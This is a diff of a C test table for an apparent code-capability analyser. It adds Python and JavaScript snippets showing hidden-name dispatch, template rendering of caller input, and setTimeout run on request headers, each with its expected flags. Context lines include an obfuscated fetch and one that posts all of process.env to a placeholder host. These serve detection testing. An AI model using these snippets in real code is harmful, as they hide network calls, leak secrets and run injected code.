@@ -56,6 +56,18 @@ static const struct behavior_case python[] = {
 
 /* What comes to run by a name, a text or a place that nobody reads; and what looks like it. */
 static const struct behavior_case reached[] = {
+    /* a text walks from a module, or is filled by an engine */
+    { "import functools, sys\ndef f(m):\n    functools.reduce(getattr, m.split('.'), "
+      "sys.modules[__name__])(1)\n",
+      "capability hidden-name sys.modules *", NULL },
+    { "import functools\ndef f(m, o):\n    return functools.reduce(getattr, m.split('.'), o)\n",
+      NULL, "hidden-name" },
+    { "import jinja2\ndef f(t, v):\n    return jinja2.Template(t).render(v)\n",
+      "capability template jinja2.Template", NULL },
+    { "import jinja2\ndef f(v):\n    return jinja2.Template('{{ a }}').render(v)\n", NULL,
+      "template" },
+    { "import string\ndef f(t, v):\n    return string.Formatter().vformat(t, (), v)\n",
+      "capability template string.Formatter().vformat", NULL },
     { "import importlib, time\nimportlib.import_module('m_%d' % (time.time() // 9))\n",
       "capability hidden-name *()", NULL },
     { "import importlib\ndef f(x): importlib.import_module('m_%d' % x)\n", NULL, "hidden-name" },
@@ -148,6 +160,12 @@ static const struct behavior_case script[] = {
     { "Reflect.get(globalThis, 'hctef'.split('').reverse().join(''))('http://a.invalid');",
       "capability network fetch\ncapability hidden-name fetch", NULL },
     { "function f(k) { globalThis[k]('x') }", "capability hidden-name globalThis", NULL },
+    { "const f = (p, a) => p.split('.').reduce((o, k) => o[k], globalThis)(a);",
+      "capability hidden-name globalThis *", NULL },
+    { "const f = (p, row) => p.split('.').reduce((o, k) => o[k], row);", NULL, "hidden-name" },
+    { "function f(r) { setTimeout(r.headers['x'] || (() => {}), 9); }",
+      "capability dynamic-code setTimeout\nflow network eval", NULL },
+    { "function f(r, g) { setTimeout(g, 1000 * r.headers['x']); }", NULL, "dynamic-code" },
     /* an environment that is handed to a program, and one that leaves */
     { "fetch('http://a.invalid', {body: JSON.stringify({env: process.env})});",
       "flow env-all network", NULL },
